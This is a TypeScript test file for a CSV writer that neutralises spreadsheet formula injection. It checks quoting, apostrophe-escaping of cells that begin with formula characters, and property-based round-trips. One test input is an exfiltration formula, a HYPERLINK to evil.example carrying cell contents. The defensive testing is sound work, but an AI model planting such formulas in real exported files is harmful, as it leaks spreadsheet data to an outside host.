import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { asItWas, csvRecord } from '../../../src/node/codes/csv.ts';

function cellsOf(record: string): readonly string[] {
  const [cells = []] = parse(record, { relax_column_count: true });
  return cells;
}

const hostile = fc.oneof(
  fc.constantFrom('\r', '\n', '\t', '\0', '"', "'", ',', ';', '=', '+', '-', '@', '＝'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);

function withoutApostrophes(text: string): string {
  return text.replaceAll("'", '');
}

/** How cells begin for a reader that splits at this separator and at lines, and ignores quotes. */
function beginningsOf(record: string, separator: string): readonly string[] {
  return record.split(new RegExp(`[${separator}\r\n]`)).slice(1);
}

describe('csvRecord()', () => {
  it('quotes by RFC 4180', () => {
    assert.equal(
      csvRecord(['a,b', 'say "x"', 'two\r\nlines', 'plain', '']),
      '"a,b","say ""x""","two\r\nlines",plain,\r\n',
    );
  });

  it('writes as text what a spreadsheet would run as a formula', () => {
    const formulas = [
      '=1+1',
      '+62812',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '\nx',
      '\0x',
      '＝1',
      '＋1',
      '－1',
      '＠x',
    ];
    for (const formula of formulas) {
      assert.deepEqual(cellsOf(csvRecord([formula, 'x'])), [`'${formula}`, 'x']);
    }
    const link = '=HYPERLINK("http://evil.example?"&A1)';
    assert.equal(cellsOf(csvRecord([link]))[0], `'${link}`);
  });

  it('writes as text what a spreadsheet would read as a number and change', () => {
    for (const text of ['081234567890', '00', '7412345678901234567', '00123E45', '12e5']) {
      assert.deepEqual(cellsOf(csvRecord([text, 'x'], { isOpened: true })), [`'${text}`, 'x']);
      assert.deepEqual(cellsOf(csvRecord([text])), [text], 'a program gets what was sent');
    }
    const kept = [
      '0',
      '628123456789',
      '123456789012345',
      '0x1F',
      '0.5',
      'E45',
      '12E',
      '2026-03-01',
    ];
    assert.deepEqual(cellsOf(csvRecord(kept, { isOpened: true })), kept);
  });

  it('leaves numbers, booleans and empty cells alone', () => {
    assert.equal(csvRecord([-1, 2, true, null, undefined]), '-1,2,true,,\r\n');
  });

  it('writes as text what becomes a cell if semicolons or tabs separate cells', () => {
    assert.deepEqual(cellsOf(csvRecord(['Ann;=1+1;', 'x'])), ["Ann;'=1+1;", 'x']);
    assert.deepEqual(cellsOf(csvRecord(['a\r\n=b', 'c;"@d'])), ["a\r\n'=b", 'c;"\'@d']);
    const harmless = ['two\r\nlines', 'a; b', 'a\tb', 'a;1', 'a-b=c'];
    assert.deepEqual(cellsOf(csvRecord(harmless)), harmless);
    fc.assert(
      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 1 }), (texts) => {
        for (const separator of [';', '\t']) {
          for (const cell of beginningsOf(csvRecord(texts), separator)) {
            assert.doesNotMatch(cell, /^["\t\0]*[=+\-@＝＋－＠]/);
          }
        }
      }),
    );
  });

  it('has the same cells for a reader that also splits at semicolons and tabs', () => {
    const delimiter = [',', ';', '\t'];
    fc.assert(
      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 2 }), (texts) => {
        const [cells = []] = parse(csvRecord(texts), { delimiter, relax_column_count: true });
        assert.deepEqual(cells.map(withoutApostrophes), texts.map(withoutApostrophes));
      }),
    );
  });

  it('escapes apostrophes that would look like its own', () => {
    for (const [text, cell] of [
      ["'=B", "''=B"],
      ["'0456", "''0456"],
      ["A;'=B", "A;''=B"],
      ['";=x', '";\'=x'],
      ["'tis", "'tis"],
      ["A;'B", "A;'B"],
    ] as const) {
      assert.deepEqual(cellsOf(csvRecord([text, 'x'])), [cell, 'x']);
    }
  });

  it('gives every text back unchanged to a reader that undoes its escapes', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: hostile }), { minLength: 2 }),
        fc.boolean(),
        (texts, isOpened) => {
          const cells = cellsOf(csvRecord(texts, { isOpened }));
          assert.deepEqual(cells.map(asItWas), texts);
        },
      ),
    );
  });

  it('gives every text back except apostrophes, and none as a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 2 }), (texts) => {
        const cells = cellsOf(csvRecord(texts));
        assert.equal(cells.length, texts.length);
        assert.deepEqual(cells.map(withoutApostrophes), texts.map(withoutApostrophes));
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0＝＋－＠]/);
      }),
    );
  });
});
